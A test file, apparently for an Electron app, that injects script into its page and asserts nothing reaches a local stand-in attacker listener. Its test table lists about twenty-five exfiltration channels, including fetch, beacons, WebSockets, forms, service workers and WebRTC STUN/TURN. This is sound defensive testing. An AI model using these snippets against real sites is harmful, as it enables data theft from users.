import { createSocket, type Socket } from 'node:dgram';
import { createServer as createHttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, it, onTestFinished } from 'vitest';
import { z } from 'zod';
import { attemptsToReachOut } from './connection-attempts.ts';
import {
  newDataFolder,
  openDossier,
  outFolder,
  removeDataFolder,
  startDemo,
  type DossierWindow,
} from './open-dossier.ts';

let dossier: DossierWindow;
let dataFolder: string;

/** Whoever an attacker would send things to: what reaches them, over TCP and over UDP, on one port of this machine. */
let stream: Server;
let datagrams: Socket;
let port = 0;
const reached: string[] = [];
const trace = path.join(outFolder, 'attacked-page.trace');

beforeAll(async () => {
  stream = createServer((connection) => {
    reached.push('a connection');
    connection.on('error', () => undefined);
    connection.on('data', (bytes) => reached.push(bytes.toString('latin1').slice(0, 80)));
  });
  await new Promise<void>((resolve) => stream.listen(0, '127.0.0.1', resolve));
  port = z.object({ port: z.number() }).parse(stream.address()).port;
  datagrams = createSocket('udp4', () => reached.push('a datagram'));
  await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve));
  dataFolder = newDataFolder();
  dossier = await openDossier(dataFolder, { traceTo: trace });
  await startDemo(dossier);
});

afterAll(async () => {
  await dossier.close();
  stream.close();
  datagrams.close();
  removeDataFolder(dataFolder);
});

/** Runs what an attacker would, who has got a script into the page. A way that throws is no way. */
function attack(script: string): Promise<unknown> {
  return dossier.page.evaluate(`(async () => { const at = '127.0.0.1:${String(port)}'; ${script} })().then(
    () => 'ran', (error) => String(error))`);
}

const element = (tag: string, members: string) =>
  `document.body.append(Object.assign(document.createElement('${tag}'), ${members}))`;

it('a page under an attacker’s control has no name looked up, which would tell something to whoever answers', async () => {
  const link = "{ rel: 'dns-prefetch', href: '//taken.registry.example/' }";
  await attack(
    `${element('meta', "{ httpEquiv: 'x-dns-prefetch-control', content: 'on' }")}; ${element('link', link)}`,
  );
  await dossier.page.waitForTimeout(2_000);
  const attempts = attemptsToReachOut(readFileSync(trace, 'utf8'));
  // A name server may be on this machine, too.
  expect(attempts.filter((attempt) => !attempt.includes('127.0.0.1') || attempt.includes('htons(53)'))).toEqual([]);
});

it.each([
  ['fetch', 'await fetch(`http://${at}/`)'],
  ['fetch without an answer', "await fetch(`http://${at}/`, { mode: 'no-cors', method: 'POST', body: 'x' })"],
  ['a request of the older kind', "const r = new XMLHttpRequest(); r.open('GET', `http://${at}/`); r.send()"],
  ['a socket', 'new WebSocket(`ws://${at}/`)'],
  ['a stream of events', 'new EventSource(`http://${at}/`)'],
  ['a beacon', "navigator.sendBeacon(`http://${at}/`, 'x')"],
  ['a picture', element('img', '{ src: `http://${at}/` }')],
  ['a script', element('script', '{ src: `http://${at}/` }')],
  ['a module', 'await import(`http://${at}/a.js`)'],
  ['a frame', element('iframe', '{ src: `http://${at}/` }')],
  ['an object', element('object', '{ data: `http://${at}/` }')],
  ['a film', element('video', '{ src: `http://${at}/`, autoplay: true }')],
  ['a style', element('link', "{ rel: 'stylesheet', href: `http://${at}/` }")],
  ['a link that fetches ahead', element('link', "{ rel: 'prefetch', href: `http://${at}/` }")],
  ['a link that connects ahead', element('link', "{ rel: 'preconnect', href: `http://${at}/` }")],
  ['a font', "await new FontFace('x', `url(http://${at}/)`).load()"],
  [
    'a form',
    `const form = Object.assign(document.createElement('form'), { action: 'http://' + at + '/', method: 'post' }); document.body.append(form); form.submit()`,
  ],
  [
    'a download',
    `${element('a', "{ href: `http://${at}/`, download: 'x', id: 'taken' }")}; document.querySelector('#taken').click()`,
  ],
  ['a new window', 'window.open(`http://${at}/`)'],
  ['another address', 'location.href = `http://${at}/`'],
  ['a worker', "new Worker(URL.createObjectURL(new Blob([`fetch('http://${at}/')`])))"],
  ['a worker that stays', 'await navigator.serviceWorker.register(`http://${at}/a.js`)'],
  [
    'an empty frame of its own',
    "const frame = document.createElement('iframe'); document.body.append(frame); await frame.contentWindow.fetch(`http://${at}/`)",
  ],
  [
    'a call between browsers, by datagrams',
    "const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${at}` }] }); call.createDataChannel('x'); await call.setLocalDescription()",
  ],
  [
    'a call between browsers, by a relay',
    "const call = new RTCPeerConnection({ iceServers: [{ urls: `turn:${at}?transport=tcp`, username: 'stolen', credential: 'x' }] }); call.createDataChannel('x'); await call.setLocalDescription()",
  ],
])('a page under an attacker’s control sends nothing out by %s', async (_way, script) => {
  reached.length = 0;
  const address = dossier.page.url();
  const outcome = await attack(script);
  await dossier.page.waitForTimeout(1_200);
  expect({ outcome, reached }).toEqual({ outcome, reached: [] });
  expect(dossier.page.url()).toBe(address);
  expect(dossier.application.windows()).toHaveLength(1);
});

it('the pages have a proxy that is not there, and the service is reached as the system says', async () => {
  const routes = await dossier.application.evaluate(({ session }) =>
    Promise.all(
      [session.defaultSession, session.fromPartition('system-proxy')].map((one) =>
        one.resolveProxy('https://registry.example/'),
      ),
    ),
  );
  expect(routes[0]).toBe('HTTPS 127.0.0.1:9');
  expect(routes[1]).not.toContain('127.0.0.1:9');
});

it('a script of the system that chooses the proxy is fetched in the session that asks for it, though that may fetch nothing', async () => {
  const fetched: string[] = [];
  const script = createHttpServer((request, response) => {
    fetched.push(request.url ?? '');
    response.setHeader('content-type', 'application/x-ns-proxy-autoconfig');
    response.end('function FindProxyForURL() { return "PROXY proxy.example:3128"; }');
  });
  await new Promise<void>((resolve) => script.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void script.close());
  const { port: at } = z.object({ port: z.number() }).parse(script.address());
  const route = await dossier.application.evaluate(
    async ({ session }, pacScript) => {
      const asking = session.fromPartition('as-system-proxy');
      asking.webRequest.onBeforeRequest((_request, answer) => {
        answer({ cancel: true });
      });
      await asking.setProxy({ mode: 'pac_script', pacScript });
      return asking.resolveProxy('https://registry.example/');
    },
    `http://127.0.0.1:${String(at)}/proxy.pac`,
  );
  expect({ route, fetched }).toEqual({ route: 'PROXY proxy.example:3128', fetched: ['/proxy.pac'] });
});
